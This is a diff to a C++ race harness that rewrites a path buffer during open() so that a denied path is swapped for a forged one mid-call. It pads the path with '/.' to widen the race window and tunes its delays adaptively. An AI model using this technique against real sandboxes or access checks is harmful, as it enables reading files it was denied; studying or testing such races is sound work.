@@ -34,22 +34,41 @@ void *rewriter(void *) {
     // A delay that varies per round: the rewrite lands before, during or
     // after the call. The empty asm keeps the loop.
     for (int spin = 0; spin < g_delay; ++spin) asm volatile("");
-    strcpy(g_buffer, g_forged);  // NOLINT: both fit, checked in race()
+    strcpy(g_buffer, g_forged);  // NOLINT: it fits, checked in race()
     __atomic_store_n(&g_go, 0, __ATOMIC_RELEASE);
   }
   return nullptr;
 }
 
 int race(const char *denied, const char *forged, long rounds) {
-  if (strlen(denied) >= sizeof g_buffer || strlen(forged) >= sizeof g_buffer) return 2;
+  // DENIED with "/." repeated before its last name: the kernel walks it
+  // slowly after copying it, which widens the window the rewrite aims at.
+  static char padded[4096];
+  const char *slash = strrchr(denied, '/');
+  size_t head = slash ? static_cast<size_t>(slash - denied) : 0;
+  size_t tail = strlen(denied) - head;
+  if (head + tail + 1 > sizeof padded || strlen(forged) >= sizeof g_buffer) return 2;
+  size_t at = head;
+  memcpy(padded, denied, head);
+  while (at + 2 + tail + 1 < sizeof padded - 64) {
+    padded[at++] = '/';
+    padded[at++] = '.';
+  }
+  memcpy(padded + at, denied + head, tail + 1);
   g_forged = forged;
   pthread_t t;
   if (pthread_create(&t, nullptr, rewriter, nullptr) != 0) return 3;
+  int delay = 0;
   for (long i = 0; i < rounds; ++i) {
-    strcpy(g_buffer, denied);  // NOLINT
-    g_delay = static_cast<int>((i * 97) % 20000);
+    strcpy(g_buffer, padded);  // NOLINT: both fit, checked above
+    g_delay = delay;
     __atomic_store_n(&g_go, 1, __ATOMIC_RELEASE);
     int fd = open(g_buffer, O_RDONLY | O_CLOEXEC);
+    int error = fd < 0 ? errno : 0;
+    // The kernel denied DENIED and the rewrite had landed by the return:
+    // it landed during the call. Aim there again; else try another delay.
+    bool during = error == EACCES && __atomic_load_n(&g_go, __ATOMIC_ACQUIRE) == 0;
+    if (!during) delay = (delay + 7919) % 400000;
     if (fd >= 0) close(fd);
     while (__atomic_load_n(&g_go, __ATOMIC_ACQUIRE) != 0) {
     }
